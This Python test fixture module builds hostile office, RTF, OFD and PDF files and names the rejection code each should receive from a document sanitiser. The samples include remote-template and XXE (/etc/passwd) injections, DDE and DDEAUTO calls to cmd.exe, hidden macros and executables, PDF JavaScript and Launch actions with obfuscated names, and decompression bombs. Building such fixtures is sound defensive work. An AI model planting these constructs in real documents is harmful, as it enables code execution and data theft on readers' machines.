"""Hostile files, made here byte by byte: what they would do, and the code they are refused with."""

import io
import zipfile
import zlib

import pypdf
import pypdf.actions

from keti.documents.rules.docx import to_docx
from keti.documents.rules.paper import Paper
from keti.documents.rules.pdf import to_pdf
from keti.documents.rules.sheet import to_xlsx
from keti.documents.rules.written import as_body

RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
NOTICE = Paper(kind="notice", title="通知", body=as_body("链接 https://example.org 与正文。\n"))
DOCX, PDF = to_docx(NOTICE), to_pdf(NOTICE)
XLSX = to_xlsx("名册", ["姓名"], [["秦（演示）"]])
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
REMOTE, EMBEDDED, MACROS = "file-has-remote-parts", "file-has-embedded", "file-has-macros"
ODD, DAMAGED, LOCKED, ACTIVE = (
    "file-archive-unsafe",
    "file-damaged",
    "file-locked",
    "file-pdf-active",
)
HARMFUL, MISMATCH = "file-harmful", "file-kind-mismatch"


def packed(parts: dict[str, bytes], base: bytes = DOCX) -> bytes:
    """The base with these parts put in or in place of its own."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        if base:
            with zipfile.ZipFile(io.BytesIO(base)) as old:
                for name in old.namelist():
                    if name not in parts:
                        made.writestr(name, old.read(name))
        for name, data in parts.items():
            made.writestr(name, data)
    return out.getvalue()


def relation(attributes: str, before: str = "", tag: str = "Relationship") -> str:
    return (
        f'{before}<Relationships xmlns="{RELATIONS}"><{tag} Id="r1" {attributes}/></Relationships>'
    )


def rels(text: str, code: str = "utf-8", part: str = "word/_rels/settings.xml.rels") -> bytes:
    return packed({part: text.encode(code)})


def outside(kind: str, target: str = "https://example.org/t.dotm", mode: str = "External") -> str:
    return relation(f'Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"')


def part(inside: str, space: str = WORD) -> bytes:
    text = f'<w:ftr xmlns:w="{space}" xmlns:r="{OFFICE}"><w:p>{inside}</w:p></w:ftr>'
    return packed({"word/footer9.xml": text.encode()})


def field(*instructions: str) -> bytes:
    said = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instructions)
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    return part(f"<w:r>{begin}</w:r>{said}<w:r>{end}</w:r>")


HYPER = f'Type="{OFFICE}/hyperlink"'
TEMPLATE = f'Type="{OFFICE}/attachedTemplate"'
HTTP = 'Target="https://example.org/t"'
DTD = '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
WORD_REMOTE = {
    "template": rels(outside("attachedTemplate")),
    "template of another machine": rels(outside("attachedTemplate", "file://server/a/t.dotx")),
    "template by its share": rels(outside("attachedTemplate", "\\\\server\\a\\t.dotx")),
    "template on a share behind a disk": rels(
        outside("attachedTemplate", "C:\\%5c%5Cserver\\t.dotx")
    ),
    "template with four strokes": rels(outside("attachedTemplate", "file:////server/a/t.dotx")),
    "template behind numbers": rels(outside("attachedTemplate", "file:///%5C%5Cserver/t.dotx")),
    "template beside the file": rels(outside("attachedTemplate", "t.dotm")),
    "picture": rels(outside("image")),
    "frame": rels(outside("frame")),
    "subdocument": rels(outside("subDocument")),
    "linked object": rels(outside("package")),
    "workbook of another": rels(outside("externalLinkPath", "book.xlsx")),
    "mail merge": rels(outside("mailMergeSource", "file:///c:/a.mdb")),
    "character reference in the mode": rels(outside("image", mode="&#69;xternal")),
    "hexadecimal reference": rels(outside("image", mode="E&#x78;ternal")),
    "mode in small letters": rels(outside("image", mode="external")),
    "mode with blanks": rels(outside("image", mode=" External ")),
    "mode nobody knows": rels(outside("image", mode="Elsewhere")),
    "no mode": rels(relation(f'Type="{OFFICE}/image" {HTTP}')),
    "internal mode": rels(outside("image", mode="Internal")),
    "bigger than in the target": rels(outside("image", "https://example.org/a>b")),
    "very long target": rels(outside("image", "https://example.org/" + "a" * 9000)),
    "decoy type": rels(
        relation(f'xmlns:x="urn:x" x:{HYPER} {TEMPLATE} {HTTP} TargetMode="External"')
    ),
    "decoy type behind": rels(
        relation(f'{TEMPLATE} {HTTP} TargetMode="External" xmlns:x="urn:x" x:{HYPER}')
    ),
    "mode in a namespace": rels(
        relation(f'xmlns:x="urn:x" {TEMPLATE} Target="t.dotm" x:TargetMode="External"')
    ),
    "almost a hyperlink": rels(relation(f'Type="urn:x/hyperlink" {HTTP} TargetMode="External"')),
    "UTF-16 with mark": rels(relation(f'{TEMPLATE} {HTTP} TargetMode="External"'), "utf-16"),
    "UTF-16 without mark": rels(
        relation(f'{TEMPLATE} {HTTP} TargetMode="External"', '<?xml version="1.0"?>'), "utf-16-le"
    ),
    "UTF-16 turned round": rels(
        relation(f'{TEMPLATE} {HTTP} TargetMode="External"', '<?xml version="1.0"?>'), "utf-16-be"
    ),
    "comment between": rels(
        relation(f'{TEMPLATE}\n {HTTP}\t\nTargetMode\n=\n"External"', "<!-- <a> -->")
    ),
    "other prefix": rels(
        f'<x:Relationships xmlns:x="{RELATIONS}"><x:Relationship Id="a" {TEMPLATE} {HTTP} '
        'TargetMode="External"/></x:Relationships>'
    ),
    "other part": rels(outside("image"), part="customXml/_rels/item7.xml.rels"),
    "ending in capitals": rels(outside("image"), part="word/_rels/footer1.XML.RELS"),
    "link to a file": rels(outside("hyperlink", "file://server/share/a.exe")),
    "link to another machine": rels(outside("hyperlink", "\\\\server\\share\\a")),
    "link to a script": rels(outside("hyperlink", "java\tscript:alert(1)")),
    "picture by its address": part('<w:imagedata src="http://example.org/a.png"/>'),
    "INCLUDEPICTURE": field(' INCLUDEPICTURE "http://example.org/a.png" \\* MERGEFORMAT '),
    "DDEAUTO": field("DDEAUTO c:\\\\windows\\\\cmd.exe"),
    "field in pieces": field(" INC", "LUDE", "TEXT ", "c:\\\\a.txt"),
    "field in small letters": field(" dde excel a b "),
    "field without an end": part("<w:instrText>DDE a b</w:instrText>"),
    "simple field": part('<w:fldSimple w:instr=" &#68;DE a b "/>'),
    "field that computes its name": part(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/>'
        "<w:instrText>QUOTE 68 68 69</w:instrText></w:r>"
    ),
}
WORD_ACTIVE = {
    "chart pasted from a share": (
        rels(outside("oleObject", "file://server/a/b.xlsx"), part="word/charts/_rels/c.xml.rels"),
        EMBEDDED,
    ),
    "chart of another site": (rels(outside("oleObject", "https://example.org/b.xlsx")), EMBEDDED),
    "altChunk": (rels(relation(f'Type="{OFFICE}/aFChunk" Target="a.html"')), EMBEDDED),
    "html part": (packed({"word/a.htm": b"<html><body onload='x()'>"}), EMBEDDED),
    "xhtml part": (packed({"word/a.bin": b"<html xmlns='urn:x'/>"}), EMBEDDED),
    "OLE object under a plain name": (
        packed({"word/media/image7.png": OLE + b"\0" * 99}),
        EMBEDDED,
    ),
    "macros under a plain name": (
        packed({"word/styles7.dat": OLE + "VBA".encode("utf-16-le")}),
        MACROS,
    ),
    "macros by relation": (
        rels(relation('Type="urn:microsoft/2006/relationships/vbaProject" Target="a.dat"')),
        MACROS,
    ),
    "macros by content type": (
        packed(
            {
                "[Content_Types].xml": b'<Types><Override PartName="/a" ContentType="application/'
                b'vnd.ms-office.vbaProject"/></Types>'
            }
        ),
        MACROS,
    ),
    "content type in UTF-16": (
        packed(
            {
                "[Content_Types].xml": (
                    '<Types><Default Extension="x" ContentType="a.macro&#69;nabled"/></Types>'
                ).encode("utf-16")
            }
        ),
        MACROS,
    ),
    "control": (rels(relation(f'Type="{OFFICE}/control" Target="a.xml"')), EMBEDDED),
    "program": (packed({"word/media/a.jpg": b"MZ" + b"\0" * 90 + b"PE\0\0"}), EMBEDDED),
    "pdf inside": (packed({"word/media/a.png": b"%PDF-1.7 "}), EMBEDDED),
    "archive inside": (packed({"word/a.dat": packed({"a.exe": b"a"}, b"")}), EMBEDDED),
    "workbook with macros inside": (
        packed({"word/embeddings/a.xlsx": packed({"xl/vbaProject.bin": OLE}, XLSX)}),
        MACROS,
    ),
    "workbook that fetches inside": (
        packed(
            {
                "word/embeddings/a.xlsx": packed(
                    {"xl/_rels/workbook.xml.rels": outside("externalLinkPath").encode()}, XLSX
                )
            }
        ),
        REMOTE,
    ),
    "file in a file in a file": (
        packed(
            {"word/embeddings/a.docx": packed({"word/embeddings/b.xlsx": XLSX})},
        ),
        EMBEDDED,
    ),
    "entity of the machine": (packed({"word/a.xml": f"{DTD}<r>&e;</r>".encode()}), ODD),
    "entity in UTF-16": (packed({"word/a.xml": f"{DTD}<r/>".encode("utf-16")}), ODD),
    "entity in a relation": (rels(relation(HTTP, DTD)), ODD),
    "doctype alone": (
        packed({"word/a.xml": b'<!DOCTYPE r SYSTEM "http://example.org/r"><r/>'}),
        ODD,
    ),
    "attribute twice": (rels(relation('TargetMode="Internal" TargetMode="External"')), DAMAGED),
    "no XML": (packed({"word/a.xml": b"\x00\x01"}), DAMAGED),
    "UTF-7": (rels('<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-'), DAMAGED),
    "giant word": (packed({"word/a.xml": b'<a b="' + b"xy" * (3 << 20) + b'"/>'}), ODD),
    "giant relations": (rels(relation(f'Target="{"ab" * (2 << 20)}"')), ODD),
    "virus mark in a part": (packed({"word/media/a.png": b"\0" * 70 + EICAR}), HARMFUL),
    "two parts of one name": (packed({"word/A.xml": b"<a/>", "word/a.xml": b"<a/>"}), ODD),
}
ODT = {
    "mimetype": b"application/vnd.oasis.opendocument.text",
    "META-INF/manifest.xml": b"<m/>",
}
SPACES = (
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def odt(inside: str, **parts: bytes) -> bytes:
    content = f"<c {SPACES}>{inside}</c>".encode()
    return packed({**ODT, "content.xml": content, **parts}, b"")


def ofd(**parts: bytes) -> bytes:
    """An OFD file as a program for invoices writes it."""
    own = {
        "OFD.xml": b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" DocType="OFD"/>',
        "Doc_0/Document.xml": b'<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"/>',
        "Doc_0/Pages/Page_0/Content.xml": b"<ofd:Page xmlns:ofd='http://www.ofdspec.org/2016'/>",
        "Doc_0/Res/font_1.ttf": b"\0\1\0\0" + b"\0" * 60,
        "Doc_0/Signs/Sign_0/SignedValue.dat": b"\x30\x82" + b"\0" * 60,
        "Doc_0/Attachs/original_invoice.xml": "<发票>壹</发票>".encode(),
    }
    return packed(own | {name.replace("__", "/"): data for name, data in parts.items()}, b"")


def rtf(inside: str) -> bytes:
    return b"{\\rtf1\\ansi\\ansicpg936 " + inside.encode() + b"\\par}"


def old_book(*records: bytes, body: str = "Workbook") -> bytes:
    """An old binary file: its mark, the name of its body, some of its records."""
    data = OLE + b"\0" * 1528 + body.encode("utf-16-le") + b"\0" * 512
    return data + b"\x09\x08\x10\x00\x00\x06\x05\x00" + b"\0" * 8 + b"".join(records)


def rtf_field(*instructions: str) -> bytes:
    said = "".join(instructions)
    return rtf(r"{\field{\*\fldinst " + said + r"}{\fldrslt a}}")


def sheet(formula: str) -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    text = f'<worksheet xmlns="{space}"><f>{formula}</f></worksheet>'
    return packed({"xl/worksheets/sheet9.xml": text.encode()}, XLSX)


OTHERS = [
    ("odt picture", odt('<draw:image xlink:href="http://example.org/a.png"/>'), "odt", REMOTE),
    ("odt section", odt('<text:section-source xlink:href="../a.odt"/>'), "odt", REMOTE),
    ("odt link", odt('<text:a xlink:href="vnd.sun.star.script:a"/>'), "odt", REMOTE),
    ("odt script", odt("<script:event-listener/>"), "odt", MACROS),
    ("odt frame", odt('<draw:floating-frame xlink:href="a"/>'), "odt", REMOTE),
    ("odt locked", packed({**ODT, "META-INF/manifest.xml": b"<m><encryption-data/></m>"}, b""),
     "odt", LOCKED),
    ("sheet that asks the network", sheet('_xlfn.WEBSERVICE("http://a")'), "xlsx", REMOTE),
    ("sheet with DDE", sheet("cmd|'/c calc'!A0"), "xlsx", REMOTE),
    ("locked docx", OLE + b"\0" * 1528 + "EncryptedPackage".encode("utf-16-le"), "docx", LOCKED),
    ("locked doc", OLE + b"\0" * 1528 + "EncryptedPackage".encode("utf-16-le"), "doc", LOCKED),
    ("old doc with a field", OLE + b"\0" * 1600 + b"\x13 DDEAUTO a b", "doc", REMOTE),
    ("old doc with a wide field", OLE + b"\0" * 1600 + "\x13INCLUDETEXT".encode("utf-16-le"),
     "doc", REMOTE),
    ("ofd with a program", ofd(Doc_0__Res__a_png=b"MZ" + b"\0" * 90 + b"PE\0\0"), "ofd", EMBEDDED),
    ("ofd with an archive", ofd(Doc_0__a_dat=packed({"a.exe": b"a"}, b"")), "ofd", EMBEDDED),
    ("ofd with an entity", ofd(Doc_0__a=f"{DTD}<r>&e;</r>".encode()), "ofd", ODD),
    ("ofd that grows", ofd(Doc_0__a=b"\0" * (30 << 20)), "ofd", ODD),
    ("ofd with a password", packed({"Encryptions.xml": b"<a/>"}, ofd()), "ofd", LOCKED),
    ("rtf object", rtf(r"{\object\objemb{\*\objdata 0105}}"), "rtf", EMBEDDED),
    ("rtf object linked", rtf(r"{\*\foo{\OBJautlink}}"), "rtf", EMBEDDED),
    ("rtf object far inside", rtf("a" * (3 << 20) + r"{\object\objupdate}"), "rtf", EMBEDDED),
    ("rtf template", rtf(r"{\*\template http://example.org/t.dot}"), "rtf", REMOTE),
    ("rtf picture of the network",
     rtf(r"{\sp{\sn pibName}{\sv http://example.org/a.png}}"), "rtf", REMOTE),
    ("rtf picture of a share", rtf(r"{\sp{\sn pibName}{\sv \\\\server\\a.png}}"), "rtf", REMOTE),
    ("rtf field", rtf_field(r'INCLUDEPICTURE "http://example.org/a"'), "rtf", REMOTE),
    ("rtf field in pieces", rtf_field(r"{\rtlch IN}{\b CLUDE", "\r\n", r"TEXT} a"), "rtf", REMOTE),
    ("rtf field in numbers", rtf_field(r"\'44\u68?E a b"), "rtf", REMOTE),
    ("rtf field that computes", rtf_field(r"{\field{\*\fldinst QUOTE 68 68 69}}"), "rtf", REMOTE),
    ("page called rtf", b"<html>", "rtf", MISMATCH),
    ("old sheet with macros", old_book(b"", body="_VBA_PROJECT_CUR"), "et", MACROS),
    ("old sheet of macros", old_book(b"\x85\0\x0c\0\1\2\3\0\0\1\4\0Macr"), "et", MACROS),
    ("old sheet with an object", old_book("MBD0012".encode("utf-16-le")), "et", EMBEDDED),
    ("old sheet with DDE", old_book(b"\xae\1\x0e\0\1\0\x09\0\0cmd\3/c a"), "et", REMOTE),
    ("old sheet with a password",
     OLE + b"\0" * 1600 + b"\x09\x08\x10\0\0\6\5\0" + b"\0" * 8 + b"\x2f\0\x36\0\1", "et", LOCKED),
    ("old slides with an object", old_book(b"\x10\0\x11\x10", body="PowerPoint Document"), "dps",
     EMBEDDED),
    ("sheet with macros called et", packed({"xl/vbaProject.bin": b"x"}, XLSX), "et", MACROS),
    ("locked sheet", OLE + b"\0" * 1528 + "EncryptedPackage".encode("utf-16-le"), "xlsx", LOCKED),
    ("locked slides", OLE + b"\0" * 1528 + "EncryptedPackage".encode("utf-16-le"), "pptx", LOCKED),
    ("picture without an end", b"\xff\xd8\xff\xda\0\4\0\0" + b"a" * 99, "jpg", MISMATCH),
    ("picture and program", b"\xff\xd8\xff\xda\0\2\xff\xd9MZ" + b"\0" * 99, "jpg", MISMATCH),
    ("picture and rtf", b"\xff\xd8\xff\xda\0\2\xff\xd9\0\0{\\rtf1 }", "jpg", MISMATCH),
    ("film called heic", b"\0\0\0\x14ftypqt  \0\0\0\0qt  " + b"\0" * 99, "heic", MISMATCH),
    ("tiff without a page", b"II*\0\xff\xff\xff\0" + b"\0" * 99, "tif", MISMATCH),
    ("virus mark", EICAR, "txt", HARMFUL),
    ("virus mark in a picture", b"\xff\xd8\xff" + EICAR + b"\xff\xd9", "jpg", HARMFUL),
    ("picture and archive", b"\xff\xd8\xff\xff\xd9" + XLSX, "jpg", MISMATCH),
    ("pdf and archive", PDF + XLSX, "pdf", MISMATCH),
    ("picture and pdf", b"\xff\xd8\xff" + PDF + b"\xff\xd9", "jpg", MISMATCH),
    ("pdf and page", b"<html>" + PDF, "pdf", MISMATCH),
    ("pdf with a page behind", PDF + b"<script>a</script>", "pdf", MISMATCH),
]  # fmt: skip
OTHERS += [
    (f"{named}, as xls", data, "xls", code)
    for named, data, ending, code in OTHERS
    if ending == "et"
]


def pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, one) for n, one in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer\n<</Root 1 0 R>>\n%%EOF\n"


def packed_object(inside: bytes, said: bytes = b"/Filter /FlateDecode") -> bytes:
    data = zlib.compress(b"7 0 " + inside)
    return b"<</Type/ObjStm /N 1 /First 4 %s /Length %d>>\nstream\n%s\nendstream" % (
        said, len(data), data,
    )  # fmt: skip


def written(change) -> bytes:
    out = io.BytesIO()
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    writer.write(out)
    return out.getvalue()


ALERT = pypdf.actions.JavaScript("app.alert(1)")
JS = b"<</S/JavaScript/JS(app.alert(1))>>"
PDFS = {
    "script by a library": (written(lambda pdf: pdf.add_open_action(ALERT)), ACTIVE),
    "attachment by a library": (written(lambda pdf: pdf.add_attachment("a.exe", b"MZ")), ACTIVE),
    "password": (written(lambda pdf: pdf.encrypt("a", algorithm="RC4-128")), LOCKED),
    "password of today": (written(lambda pdf: pdf.encrypt("a", algorithm="AES-256")), LOCKED),
    "restricted": (written(lambda pdf: pdf.encrypt("", "b", algorithm="RC4-128")), LOCKED),
    "script": (pdf(b"<</OpenAction " + JS + b">>"), ACTIVE),
    "script spelled with numbers": (pdf(b"<</S/J#61va#53cript/JS(a)>>"), ACTIVE),
    "all numbers": (pdf(b"<</S/" + b"".join(b"#%02x" % c for c in b"JavaScript") + b">>"), ACTIVE),
    "script name far away": (pdf(b"<</S 2 0 R>>", b"/JavaScript"), ACTIVE),
    "program": (pdf(b"<</S/Launch/F(cmd.exe)>>"), ACTIVE),
    "attachment": (pdf(b"<</Names<</EmbeddedFiles 2 0 R>>>>"), ACTIVE),
    "attachment as a note": (pdf(b"<</Subtype/FileAttachment>>"), ACTIVE),
    "dynamic form": (pdf(b"<</AcroForm<</XFA[(a)2 0 R]>>>>"), ACTIVE),
    "film": (pdf(b"<</Subtype/RichMedia>>"), ACTIVE),
    "script in an object stream": (pdf(packed_object(JS)), ACTIVE),
    "object stream without its type": (
        pdf(packed_object(JS).replace(b"/Type/ObjStm ", b"")),
        ACTIVE,
    ),
    "object stream spelled with numbers": (
        pdf(packed_object(JS).replace(b"ObjStm", b"O#62jStm").replace(b"First", b"Firs#74")),
        ACTIVE,
    ),
    "object stream within a stream": (
        pdf(b"<</Length 9>>\nstream\n9 0 obj\n" + packed_object(JS) + b"\nendstream"),
        ACTIVE,
    ),
    "long dictionary": (pdf(packed_object(JS, b"/Pad(" + b"a" * 9000 + b")/Filter/FlateDecode")),
                        ACTIVE),
    "packed twice": (pdf(packed_object(JS, b"/Filter[/ASCIIHexDecode/FlateDecode]")), ODD),
    "packed by reference": (pdf(packed_object(JS, b"/Filter 9 0 R")), ODD),
    "predicted": (
        pdf(packed_object(JS, b"/Filter/FlateDecode/DecodeParms<</Predictor 12>>")), ODD),
    "bomb": (pdf(*[packed_object(b"\0" * (40 << 20))] * 2), ODD),
}  # fmt: skip
HOSTILE = [
    *((name, data, "docx", REMOTE) for name, data in WORD_REMOTE.items()),
    *((name, data, "docx", code) for name, (data, code) in WORD_ACTIVE.items()),
    *((name, data, "pdf", code) for name, (data, code) in PDFS.items()),
    *OTHERS,
]
